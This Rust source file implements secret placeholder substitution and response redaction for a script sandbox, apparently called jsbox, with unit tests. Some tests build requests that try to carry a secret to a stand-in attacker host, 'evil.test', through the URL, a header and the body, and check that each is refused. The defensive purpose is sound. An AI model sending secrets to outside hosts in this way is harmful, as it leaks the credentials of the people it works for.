//! Secrets a script can use but never see. The policy names each secret, its
//! value (or the host environment variable holding it) and the hosts it
//! belongs to. The script only ever holds the placeholder
//! `{{secrets.NAME}}`; the host puts the value in, per request and per
//! redirect hop, just before sending to one of the secret's hosts, refuses to
//! send a placeholder anywhere else, and replaces the value by its
//! placeholder wherever it appears in a response before the script gets it.
//!
//! The rules that keep the value out of the script's reach:
//! - values go in by one pass over what the script wrote, so a value is never
//!   scanned again (a value holding another secret's placeholder stays as it
//!   is), and only where jsbox sends bytes as they are — header values, the
//!   body — or percent-encodes them itself (the URL's path, query and
//!   fragment). Never into the URL's user:password: the HTTP client would
//!   re-encode it as `Authorization: Basic …`, a form redaction cannot know,
//!   so a placeholder there refuses the request;
//! - the size caps count the bytes that go on the wire, after substitution,
//!   and are checked before the substituted request is built;
//! - every form jsbox produces from a value (as is, percent-encoded) is
//!   redacted from responses, error messages and redirect locations.
//!
//! What this does not protect against: a host the secret is sent to that
//! reflects it in another form than verbatim (encoded, split, transformed);
//! and the value's length, which a script can learn (the caps count it).

use reqwest::Url;
use reqwest::header::{HeaderMap, HeaderValue};

use crate::policy::hosts::host_and_port;
use crate::policy::secrets::{MAX_NAME_BYTES, Secrets, is_name_char};

/// What `Secrets::plan` found: the placeholders of the URL, of each header
/// value (in the header map's order) and of the body.
struct Plan {
    in_url: Vec<Found>,
    in_headers: Vec<Vec<Found>>,
    in_body: Vec<Found>,
}

/// One request hop with the values put in.
pub(crate) struct Hop {
    pub(crate) url: Url,
    pub(crate) headers: HeaderMap,
    pub(crate) body: Option<Vec<u8>>,
}

/// The caps of one request hop, on the bytes that go on the wire (after
/// substitution).
#[derive(Debug, Clone, Copy)]
pub(crate) struct WireCaps {
    /// The body: the policy's `max_request_bytes`.
    pub(crate) body: u64,
    /// The URL and the header lines together.
    pub(crate) head: u64,
}

/// Why a hop is not sent: `kind` is the script's error kind.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Refused {
    pub(crate) kind: &'static str,
    pub(crate) message: String,
}

fn refused(kind: &'static str, message: String) -> Refused {
    Refused { kind, message }
}

/// A placeholder found in text the script wrote.
#[derive(Debug, Clone, Copy)]
struct Found {
    /// Its byte range.
    start: usize,
    end: usize,
    /// Which secret.
    secret: usize,
}

/// Where a text goes, which decides the placeholder forms found in it and
/// the form of the value put in.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Place {
    /// The URL: `{{secrets.N}}` or, as the URL parser escapes a path,
    /// `%7B%7Bsecrets.N%7D%7D`; the value goes in percent-encoded.
    Url,
    /// A header value or the body: `{{secrets.N}}`; the value as it is.
    Verbatim,
}

const OPEN: &[u8] = b"{{secrets.";
const CLOSE: &[u8] = b"}}";
const OPEN_ENCODED: &[u8] = b"%7B%7Bsecrets.";
const CLOSE_ENCODED: &[u8] = b"%7D%7D";

impl Secrets {
    /// The placeholders of known secrets in `text`, in order, without
    /// overlaps: one left-to-right pass.
    fn find(&self, text: &[u8], place: Place) -> Vec<Found> {
        let mut found = Vec::new();
        let mut at = 0;
        while let Some(offset) = memchr::memchr2(b'{', b'%', &text[at..]) {
            let start = at + offset;
            let forms: &[(&[u8], &[u8])] = match place {
                Place::Url => &[(OPEN, CLOSE), (OPEN_ENCODED, CLOSE_ENCODED)],
                Place::Verbatim => &[(OPEN, CLOSE)],
            };
            let hit = forms.iter().find_map(|&(open, close)| {
                let rest = text[start..].strip_prefix(open)?;
                let name_len = rest.iter().take(MAX_NAME_BYTES + 1).take_while(|&&b| is_name_char(b as char)).count();
                let name = std::str::from_utf8(&rest[..name_len]).ok()?;
                rest[name_len..].starts_with(close).then_some(())?;
                let secret = *self.0.by_name.get(name)?;
                Some(Found { start, end: start + open.len() + name_len + close.len(), secret })
            });
            match hit {
                Some(hit) => {
                    found.push(hit);
                    at = hit.end;
                }
                None => at = start + 1,
            }
        }
        found
    }

    /// `text` with each placeholder in `found` replaced by its value, in
    /// `place`'s form.
    fn substitute(&self, text: &[u8], found: &[Found], place: Place) -> Vec<u8> {
        let mut out = Vec::with_capacity(self.substituted_len(text.len(), found, place));
        let mut copied = 0;
        for hit in found {
            out.extend_from_slice(&text[copied..hit.start]);
            out.extend_from_slice(self.value(hit.secret, place));
            copied = hit.end;
        }
        out.extend_from_slice(&text[copied..]);
        out
    }

    /// The length of [`substitute`](Self::substitute)'s output, without
    /// building it.
    fn substituted_len(&self, len: usize, found: &[Found], place: Place) -> usize {
        found.iter().fold(len, |len, hit| len - (hit.end - hit.start) + self.value(hit.secret, place).len())
    }

    fn value(&self, secret: usize, place: Place) -> &[u8] {
        let secret = &self.0.list[secret];
        match place {
            Place::Url => secret.url_value.as_bytes(),
            Place::Verbatim => secret.value.as_bytes(),
        }
    }

    /// Checks a request hop to `url` and works out what goes on the wire:
    /// the placeholders it carries, whether each may go to this host (a
    /// placeholder of a secret that does not belong here refuses the whole
    /// request, naming the secret and the host, never the value), that none
    /// sits in the URL's user:password, and the sizes after substitution
    /// against `caps` — all before anything is built.
    fn plan(&self, url: &Url, headers: &HeaderMap, body: Option<&[u8]>, caps: WireCaps) -> Result<Plan, Refused> {
        let in_url = self.find(url.as_str().as_bytes(), Place::Url);
        let in_headers: Vec<Vec<Found>> =
            headers.values().map(|value| self.find(value.as_bytes(), Place::Verbatim)).collect();
        let in_body = body.map(|body| self.find(body, Place::Verbatim)).unwrap_or_default();

        let userinfo = url.username().len() + url.password().map_or(0, |p| p.len() + 1);
        if let Some(hit) = in_url.iter().find(|hit| hit.start < url.scheme().len() + 3 + userinfo) {
            return Err(refused(
                "network-denied",
                format!(
                    "the URL carries the placeholder of secret {} in its user:password, where jsbox never puts a \
                     value (the HTTP client would send it on re-encoded as Basic authorization): put it in a header \
                     instead, e.g. Authorization",
                    self.0.list[hit.secret].name
                ),
            ));
        }
        let (host, port) = host_and_port(url);
        let all = in_url.iter().chain(in_headers.iter().flatten()).chain(&in_body);
        if let Some(secret) =
            all.map(|hit| &self.0.list[hit.secret]).find(|s| !s.hosts.iter().any(|e| e.matches(&host, port)))
        {
            return Err(refused(
                "network-denied",
                format!(
                    "the request to {host}:{port} carries the placeholder of secret {}, which may only be sent to {}",
                    secret.name, secret.hosts_text
                ),
            ));
        }

        if let Some(secret) =
            in_headers.iter().flatten().map(|hit| &self.0.list[hit.secret]).find(|secret| !secret.header_safe)
        {
            return Err(refused(
                "invalid-request",
                format!("the value of secret {} cannot go in a header (it has control characters)", secret.name),
            ));
        }
        let url_len = self.substituted_len(url.as_str().len(), &in_url, Place::Url);
        // Each header line: `name: value\r\n`.
        let head = headers.iter().zip(&in_headers).fold(url_len, |sum, ((name, value), found)| {
            sum + name.as_str().len() + 4 + self.substituted_len(value.len(), found, Place::Verbatim)
        }) as u64;
        if head > caps.head {
            return Err(refused(
                "too-large",
                format!("request URL and headers too large: {head} bytes on the wire, at most {}", caps.head),
            ));
        }
        if let Some(body) = body {
            let len = self.substituted_len(body.len(), &in_body, Place::Verbatim) as u64;
            if len > caps.body {
                return Err(refused(
                    "too-large",
                    format!("request body too large: {len} bytes on the wire, at most {}", caps.body),
                ));
            }
        }
        Ok(Plan { in_url, in_headers, in_body })
    }

    /// Checks a request hop as [`for_hop`](Self::for_hop) does, without
    /// building it.
    pub(crate) fn check_hop(
        &self,
        url: &Url,
        headers: &HeaderMap,
        body: Option<&[u8]>,
        caps: WireCaps,
    ) -> Result<(), Refused> {
        self.plan(url, headers, body, caps).map(drop)
    }

    /// The request as it goes to `url`: checked (see `plan`), then every
    /// placeholder replaced by its value in one pass, so a value is never
    /// scanned for placeholders itself.
    pub(crate) fn for_hop(
        &self,
        url: &Url,
        headers: &HeaderMap,
        body: Option<&[u8]>,
        caps: WireCaps,
    ) -> Result<Hop, Refused> {
        let plan = self.plan(url, headers, body, caps)?;
        let url = match plan.in_url.is_empty() {
            true => url.clone(),
            false => {
                let text = self.substitute(url.as_str().as_bytes(), &plan.in_url, Place::Url);
                // Percent-encoded values are ASCII.
                let text = String::from_utf8(text).expect("a URL with percent-encoded values is UTF-8");
                Url::parse(&text).map_err(|e| {
                    refused("invalid-url", format!("the URL with its secrets put in does not parse: {e}"))
                })?
            }
        };
        let mut out = HeaderMap::with_capacity(headers.len());
        for ((name, value), found) in headers.iter().zip(&plan.in_headers) {
            let value = match found.is_empty() {
                true => value.clone(),
                false => HeaderValue::from_bytes(&self.substitute(value.as_bytes(), found, Place::Verbatim))
                    .expect("header-safe values in a header value make a header value"),
            };
            out.append(name.clone(), value);
        }
        let body = body.map(|body| match plan.in_body.is_empty() {
            true => body.to_vec(),
            false => self.substitute(body, &plan.in_body, Place::Verbatim),
        });
        Ok(Hop { url, headers: out, body })
    }

    /// Whether a header value (as the script wrote it) carries a placeholder.
    pub(crate) fn carries_placeholder(&self, value: &[u8]) -> bool {
        !self.find(value, Place::Verbatim).is_empty()
    }

    /// Whether a value (in either form [`redact`](Secrets::redact) knows)
    /// appears in `text`.
    pub(crate) fn appears_in(&self, text: &str) -> bool {
        self.0.list.iter().any(|secret| text.contains(&secret.value) || text.contains(&secret.url_value))
    }

    /// `bytes` with every value — as is, and as jsbox percent-encoded it
    /// into URLs — replaced by its placeholder; `None` when that would make
    /// them longer than `budget` bytes (a short value with a longer
    /// placeholder could otherwise multiply a response's size). What the
    /// result takes is deducted from `budget`.
    pub(crate) fn redact_within(&self, mut bytes: Vec<u8>, budget: &mut u64) -> Option<Vec<u8>> {
        for secret in self.0.list.iter() {
            for form in [&secret.value, &secret.url_value] {
                if contains(&bytes, form.as_bytes()) {
                    bytes = replace(&bytes, form.as_bytes(), secret.placeholder.as_bytes(), *budget)?;
                }
            }
        }
        *budget = budget.checked_sub(bytes.len() as u64)?;
        Some(bytes)
    }

    /// `text` with every value replaced by its placeholder (as
    /// [`redact_within`](Secrets::redact_within), for jsbox's own short
    /// texts: messages, redirect locations).
    pub(crate) fn redact(&self, mut text: String) -> String {
        for secret in self.0.list.iter() {
            for form in [&secret.value, &secret.url_value] {
                if text.contains(form.as_str()) {
                    text = text.replace(form.as_str(), &secret.placeholder);
                }
            }
        }
        text
    }
}

fn contains(haystack: &[u8], needle: &[u8]) -> bool {
    memchr::memmem::find(haystack, needle).is_some()
}

/// `haystack` with every `needle` (left to right, not overlapping) replaced
/// by `with`; `None` as soon as the result would pass `cap` bytes.
fn replace(haystack: &[u8], needle: &[u8], with: &[u8], cap: u64) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(haystack.len().min(cap as usize));
    let mut last = 0;
    for at in memchr::memmem::find_iter(haystack, needle) {
        if at < last {
            continue;
        }
        out.extend_from_slice(&haystack[last..at]);
        out.extend_from_slice(with);
        last = at + needle.len();
        if out.len() as u64 > cap {
            return None;
        }
    }
    out.extend_from_slice(&haystack[last..]);
    (out.len() as u64 <= cap).then_some(out)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::Error;
    use crate::policy::hosts::AllowList;
    use crate::policy::network::NetworkPolicy;
    use crate::policy::secrets::Secret;

    fn resolve(allow: &[&str], secrets: &[(&str, Secret)]) -> Result<Secrets, Error> {
        let policy = NetworkPolicy { allow_hosts: allow.iter().map(|s| s.to_string()).collect(), ..Default::default() };
        let map = secrets.iter().map(|(n, s)| (n.to_string(), s.clone())).collect();
        Secrets::resolve(&map, &AllowList::parse(&policy).unwrap())
    }

    fn headers(pairs: &[(&str, &str)]) -> HeaderMap {
        pairs.iter().map(|(k, v)| (k.parse().unwrap(), HeaderValue::from_str(v).unwrap())).collect()
    }

    const ROOMY: WireCaps = WireCaps { body: 1 << 20, head: 1 << 20 };

    impl Secrets {
        fn hop(&self, url: &Url, headers: &HeaderMap, body: Option<&[u8]>) -> Result<Hop, String> {
            let checked = self.check_hop(url, headers, body, ROOMY);
            let built = self.for_hop(url, headers, body, ROOMY);
            assert_eq!(checked.as_ref().err(), built.as_ref().err(), "check_hop and for_hop agree");
            built.map_err(|refused| format!("[{}] {}", refused.kind, refused.message))
        }

        fn redact_bytes(&self, bytes: Vec<u8>) -> Vec<u8> {
            self.redact_within(bytes, &mut u64::MAX.clone()).unwrap()
        }
    }

    #[test]
    fn names_values_and_hosts_are_checked() {
        let ok = Secret::value("v").host("api.example.com");
        assert!(resolve(&["api.example.com"], &[("TOKEN_1", ok.clone())]).is_ok());
        assert!(resolve(&["*.example.com"], &[("_t", ok.clone())]).is_ok());
        assert!(resolve(&["*"], &[("T", Secret::value("v").host("*.example.com:443"))]).is_ok());
        let refused = [
            (vec!["api.example.com"], "1TOKEN", ok.clone(), "a name is"),
            (vec!["api.example.com"], "TO-KEN", ok.clone(), "a name is"),
            (vec!["other.example.com"], "T", ok.clone(), "not reachable under allow_hosts"),
            (vec!["api.example.com:443"], "T", ok.clone(), "not reachable under allow_hosts"),
            (vec!["*.example.com"], "T", Secret::value("v").host("example.com"), "not reachable"),
            (vec!["api.example.com"], "T", Secret::value("v"), "list the hosts"),
            (vec!["api.example.com"], "T", Secret::value("").host("api.example.com"), "1 to"),
            (
                vec!["api.example.com"],
                "T",
                Secret::env("JSBOX_TEST_SURELY_UNSET_VARIABLE").host("api.example.com"),
                "not set",
            ),
            (vec!["api.example.com"], "T", Secret { value: None, ..ok.clone() }, "no value"),
            (vec!["api.example.com"], "T", Secret { env: Some("X".into()), ..ok.clone() }, "not both"),
            (vec!["api.example.com"], "T", Secret::value("v").host("http://api.example.com/"), "host"),
        ];
        for (allow, name, secret, says) in refused {
            let error = resolve(&allow, &[(name, secret)]).err().expect(name);
            assert_eq!(error.kind(), "invalid-policy");
            assert!(error.to_string().contains(says), "{error}");
            assert!(!error.to_string().contains("\"v\""), "{error}");
        }
    }

    #[test]
    fn values_go_in_only_for_the_secrets_hosts() {
        let secrets = resolve(
            &["api.example.com", "evil.test"],
            &[("TOKEN", Secret::value("s3cr3t/+=").host("api.example.com"))],
        )
        .unwrap();
        let url = Url::parse("https://api.example.com/a/{{secrets.TOKEN}}/b?t={{secrets.TOKEN}}&x=1").unwrap();
        let hop = secrets
            .hop(
                &url,
                &headers(&[("authorization", "Bearer {{secrets.TOKEN}}")]),
                Some(b"{\"t\":\"{{secrets.TOKEN}}\"}"),
            )
            .unwrap();
        assert_eq!(hop.url.as_str(), "https://api.example.com/a/s3cr3t%2F%2B%3D/b?t=s3cr3t%2F%2B%3D&x=1");
        // The encoded form is redacted from responses too.
        assert_eq!(
            secrets.redact(hop.url.to_string()),
            "https://api.example.com/a/{{secrets.TOKEN}}/b?t={{secrets.TOKEN}}&x=1"
        );
        assert_eq!(hop.headers["authorization"], "Bearer s3cr3t/+=");
        assert_eq!(hop.body.as_deref(), Some(&b"{\"t\":\"s3cr3t/+=\"}"[..]));

        let elsewhere = Url::parse("https://evil.test/?t={{secrets.TOKEN}}").unwrap();
        for (url, headers, body) in [
            (&elsewhere, HeaderMap::new(), None),
            (&Url::parse("https://evil.test/").unwrap(), headers(&[("x", "{{secrets.TOKEN}}")]), None),
            (&Url::parse("https://evil.test/").unwrap(), HeaderMap::new(), Some(&b"{{secrets.TOKEN}}"[..])),
        ] {
            let why = secrets.hop(url, &headers, body).err().expect("refused");
            assert!(why.starts_with("[network-denied]"), "{why}");
            assert!(why.contains("secret TOKEN") && why.contains("evil.test:443"), "{why}");
            assert!(!why.contains("s3cr3t"), "{why}");
        }
        // No placeholder: nothing to refuse; unknown names are plain text.
        let plain = Url::parse("https://evil.test/?q={{secrets.OTHER}}").unwrap();
        assert_eq!(secrets.hop(&plain, &HeaderMap::new(), None).unwrap().url, plain);
    }

    #[test]
    fn values_are_redacted_wherever_they_appear() {
        let secrets = resolve(
            &["a.test"],
            &[("A", Secret::value("abc").host("a.test")), ("AB", Secret::value("abcdef").host("a.test"))],
        )
        .unwrap();
        assert_eq!(
            secrets.redact("x abcdef y abc z abcabc".into()),
            "x {{secrets.AB}} y {{secrets.A}} z {{secrets.A}}{{secrets.A}}"
        );
        assert_eq!(secrets.redact_bytes(b"[abc]".to_vec()), b"[{{secrets.A}}]");
    }

    #[test]
    fn a_value_that_cannot_be_a_header_value_is_refused_without_showing_it() {
        let secrets = resolve(&["a.test"], &[("T", Secret::value("bad\r\nvalue").host("a.test"))]).unwrap();
        let url = Url::parse("https://a.test/").unwrap();
        let why = secrets.hop(&url, &headers(&[("x", "{{secrets.T}}")]), None).err().unwrap();
        assert!(why.contains("cannot go in a header") && !why.contains("bad"), "{why}");
    }

    #[test]
    fn a_placeholder_in_the_urls_userinfo_refuses_the_request() {
        // The HTTP client would turn user:password into `Authorization:
        // Basic base64(...)`, a form of the value no redaction knows.
        let secrets = resolve(&["a.test"], &[("T", Secret::value("s3cr3t").host("a.test"))]).unwrap();
        for url in [
            "http://u:{{secrets.T}}@a.test/echo",
            "http://{{secrets.T}}@a.test/",
            "http://{{secrets.T}}:p@a.test/",
            "http://u:%7B%7Bsecrets.T%7D%7D@a.test/",
            "http://x{{secrets.T}}y:{{secrets.T}}@a.test/?q={{secrets.T}}",
        ] {
            let url = Url::parse(url).unwrap();
            let why = secrets.hop(&url, &HeaderMap::new(), None).err().expect(url.as_str());
            assert!(why.starts_with("[network-denied]") && why.contains("user:password"), "{why}");
            assert!(!why.contains("s3cr3t"), "{why}");
        }
        // Plain credentials the script wrote itself are its own business.
        let plain = Url::parse("http://u:p@a.test/{{secrets.T}}").unwrap();
        assert_eq!(secrets.hop(&plain, &HeaderMap::new(), None).unwrap().url.as_str(), "http://u:p@a.test/s3cr3t");
    }

    #[test]
    fn values_go_in_in_one_pass_and_never_into_each_other() {
        // A's value holds B's placeholder: it goes out as it is, B's value is
        // not put into it (B may not even belong to this host).
        let secrets = resolve(
            &["a.test", "b.test"],
            &[("A", Secret::value("a{{secrets.B}}a").host("a.test")), ("B", Secret::value("bbb").host("b.test"))],
        )
        .unwrap();
        let url = Url::parse("http://a.test/").unwrap();
        let hop = secrets.hop(&url, &headers(&[("x", "{{secrets.A}}")]), Some(b"{{secrets.A}}{{secrets.A}}")).unwrap();
        assert_eq!(hop.headers["x"], "a{{secrets.B}}a");
        assert_eq!(hop.body.as_deref(), Some(&b"a{{secrets.B}}aa{{secrets.B}}a"[..]));
        // Unknown names, broken placeholders and overlaps are plain text.
        let hop = secrets
            .hop(&url, &HeaderMap::new(), Some(b"{{{secrets.A}}} {{secrets.C}} {{secrets.A} {{secrets."))
            .unwrap();
        assert_eq!(hop.body.as_deref(), Some(&b"{a{{secrets.B}}a} {{secrets.C}} {{secrets.A} {{secrets."[..]));
    }

    #[test]
    fn caps_count_the_bytes_on_the_wire_after_substitution() {
        let long = "k".repeat(2_000);
        let secrets = resolve(&["a.test"], &[("T", Secret::value(long.clone()).host("a.test"))]).unwrap();
        let url = Url::parse("http://a.test/").unwrap();
        // 52 placeholders: 572 bytes as written, 104,000 on the wire.
        let body = "{{secrets.T}}".repeat(52);
        let caps = WireCaps { body: 64 << 10, head: 64 << 10 };
        let refused = secrets.for_hop(&url, &HeaderMap::new(), Some(body.as_bytes()), caps).err().unwrap();
        assert_eq!(refused.kind, "too-large");
        assert_eq!(refused.message, "request body too large: 104000 bytes on the wire, at most 65536");
        assert_eq!(secrets.check_hop(&url, &HeaderMap::new(), Some(body.as_bytes()), caps), Err(refused));
        let fits = "{{secrets.T}}".repeat(32);
        assert_eq!(
            secrets.for_hop(&url, &HeaderMap::new(), Some(fits.as_bytes()), caps).unwrap().body.unwrap().len(),
            64_000
        );
        // The URL and headers together, after substitution.
        let in_headers = headers(&[("a", &"{{secrets.T}}".repeat(20)), ("b", &"{{secrets.T}}".repeat(20))]);
        let refused = secrets.for_hop(&url, &in_headers, None, caps).err().unwrap();
        assert_eq!(refused.kind, "too-large");
        assert!(refused.message.starts_with("request URL and headers too large: 80"), "{}", refused.message);
        let in_url = Url::parse(&format!("http://a.test/?{}", "{{secrets.T}}".repeat(40))).unwrap();
        assert_eq!(secrets.for_hop(&in_url, &HeaderMap::new(), None, caps).err().unwrap().kind, "too-large");
        // Without secrets, the same caps on the request as written.
        let none = Secrets::default();
        let big = vec![b'x'; 65_537];
        assert_eq!(none.for_hop(&url, &HeaderMap::new(), Some(&big), caps).err().unwrap().kind, "too-large");
        assert!(none.for_hop(&url, &HeaderMap::new(), Some(&big[1..]), caps).is_ok());
    }

    #[test]
    fn redaction_is_refused_when_it_would_outgrow_its_budget() {
        // A one-byte value with a longer placeholder multiplies a response.
        let secrets = resolve(&["a.test"], &[("T", Secret::value("x").host("a.test"))]).unwrap();
        let mut budget = 1_000;
        assert_eq!(secrets.redact_within(b"x".repeat(100), &mut budget), None);
        let mut budget = 1_000;
        let redacted = secrets.redact_within(b"axb".to_vec(), &mut budget).unwrap();
        assert_eq!((redacted.as_slice(), budget), (&b"a{{secrets.T}}b"[..], 1_000 - 15));
    }
}
